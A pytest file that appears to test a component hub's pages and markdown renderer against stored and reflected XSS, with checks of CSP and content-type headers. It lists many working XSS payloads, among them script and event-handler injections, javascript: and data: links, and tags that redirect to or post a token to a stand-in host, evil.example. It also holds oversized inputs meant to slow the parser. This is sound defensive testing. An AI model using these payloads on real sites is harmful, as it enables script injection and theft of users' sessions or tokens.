"""Stored XSS: nothing that a component, its README or its labels say becomes code in a page of the hub."""

from __future__ import annotations

import re
from collections.abc import Iterator
from html.parser import HTMLParser

import pytest

from catalog.view.markdown import markdown_html
from hub.registry.registry import open_registry
from tests.hub.pages.scene import add
from tests.hub.served import Served, served

SCRIPTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import 'https://evil.example'</style>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example'><input name=token></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "{{ 7*7 }}{% raw %}",
    "</textarea></title></style></script><script>alert(1)</script>",
)
MARKDOWN = (
    *SCRIPTS,
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![x" onerror="alert(1)](x)',
    '[x](https://ok.example "title" onmouseover=alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    '```js" onmouseover="alert(1)\nx\n```',
    "`<script>alert(1)</script>`",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[a](<javascript:alert(1)>)",
    "# <svg onload=alert(1)>",
)
ALLOWED_SCHEMES = re.compile(r"(?:https?:|mailto:|/|#|\?|[^:]*$)", re.IGNORECASE)
BAD_TAGS = {"iframe", "object", "embed", "base", "style", "math", "frame", "applet"}


class Harm(HTMLParser):
    """Collects what could run or lead elsewhere; `own` are the scripts of the page itself."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag in BAD_TAGS or (tag == "script" and not given.get("src", "").startswith("/static/")):
            self.found.append(tag)
        if tag == "form" and not given.get("action", "/").startswith("/"):
            self.found.append("form")
        if tag == "meta" and "http-equiv" in given:
            self.found.append("meta")
        self.found += [f"{tag} {name}" for name in given if name.startswith("on") or name in ("style", "srcdoc")]
        for name in ("href", "src", "action", "formaction", "xlink:href"):
            if name in given and not ALLOWED_SCHEMES.match(given[name].strip()):
                self.found.append(f"{tag} {name}={given[name]}")


def harm_in(text: str) -> list[str]:
    parser = Harm()
    parser.feed(text)
    parser.close()
    return parser.found


@pytest.mark.parametrize("text", MARKDOWN)
def test_a_readme_cannot_do_harm(text: str) -> None:
    made = str(markdown_html(text))
    assert harm_in(made) == []
    assert "<script" not in made.lower()
    assert "<img" not in made.lower()
    assert "<svg" not in made.lower()


def test_links_of_a_readme_do_not_vouch_and_do_not_hand_over_the_window() -> None:
    made = str(markdown_html("[x](https://example.org)"))
    assert 'rel="noopener noreferrer nofollow"' in made


@pytest.mark.parametrize(
    "text",
    ["[" * 20_000, "> " * 20_000, "*" * 50_000, "`" * 50_000, "| " * 20_000 + "\n" + "|-" * 20_000, "a" * 2_000_000],
)
def test_a_readme_made_to_be_slow_ends(text: str) -> None:
    assert len(str(markdown_html(text))) < 5_000_000


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """A hub whose components say all of it, everywhere a text may stand."""
    folder = tmp_path_factory.mktemp("hostile")
    with open_registry(folder) as registry:
        for number, text in enumerate(SCRIPTS):
            for version in ("1.0.0", "2.0.0"):
                add(registry, f"evil/part_{number}", version, component(text, version), f"# {text}\n\n{text}\n")
    with served(folder) as running:
        yield running


def component(text: str, version: str) -> str:
    """A component with the text in every place the grammar leaves open."""
    import json

    quoted = json.dumps(text)
    return f"""\
name: {quoted}
description: {quoted}
metadata:
  annotations: {{version: {version}, author: {quoted}, license: {quoted}}}
  labels: {{task: {quoted}}}
inputs:
- {{name: {quoted}, type: {quoted}, default: {quoted}, description: {quoted}}}
- {{name: second, type: {{{quoted}: {{a: {quoted}}}}}, description: {quoted}}}
outputs:
- {{name: {json.dumps(text + version)}, type: {quoted}, description: {quoted}}}
implementation:
  container:
    image: {quoted}
    command: [sh, -c, {quoted}, {{outputPath: {json.dumps(text + version)}}}]
"""


def addresses() -> list[str]:
    found = ["/", "/namespaces", "/status", "/login"]
    for number in range(len(SCRIPTS)):
        name = f"evil/part_{number}"
        found += [f"/c/{name}", f"/c/{name}/1.0.0", f"/diff/{name}?from=1.0.0&to=2.0.0"]
    return found


def test_no_page_runs_what_a_component_says(hostile: Served) -> None:
    for address in addresses():
        answer = hostile.client.get(address)
        assert answer.status_code == 200, address
        assert harm_in(answer.text) == [], address
        assert "49{%" not in answer.text, "the text was read as a template"


@pytest.mark.parametrize("text", SCRIPTS)
def test_no_parameter_comes_back_as_code(hostile: Served, text: str) -> None:
    html = {"Accept": "text/html"}
    for params in ({"q": text}, {"output_type": text}, {"label": text}, {"namespace": text}, {"offset": text}):
        assert harm_in(hostile.client.get("/", params=params, headers=html).text) == []
    for path in ("/c/evil/part_0", "/diff/evil/part_0"):
        answer = hostile.client.get(path, params={"from": text, "to": text}, headers=html)
        assert harm_in(answer.text) == []
    from urllib.parse import quote

    assert harm_in(hostile.client.get(f"/c/{quote(text, safe='')}", headers=html).text) == []


def test_every_page_forbids_scripts_of_others(hostile: Served) -> None:
    for address in [*addresses(), "/c/nothing", "/nowhere"]:
        answer = hostile.client.get(address, headers={"Accept": "text/html"})
        policies = answer.headers.get_list("content-security-policy")
        assert policies, address
        for policy in policies:
            rules = dict(rule.strip().partition(" ")[::2] for rule in policy.split(";"))
            assert rules["default-src"] == "'none'"
            assert rules["script-src"] == "'self'"
            assert rules["style-src"] == "'self'"
            assert rules["base-uri"] == rules["frame-ancestors"] == "'none'"
            assert rules["form-action"] == "'self'"
            assert "unsafe" not in policy
        assert answer.headers["x-content-type-options"] == "nosniff"


def test_files_of_a_component_are_never_shown_as_a_page(hostile: Served) -> None:
    for file in ("component.yaml", "README.md"):
        answer = hostile.client.get(f"/components/evil/part_0/1.0.0/{file}")
        assert answer.status_code == 200
        assert "html" not in answer.headers["content-type"]
        assert answer.headers["x-content-type-options"] == "nosniff"
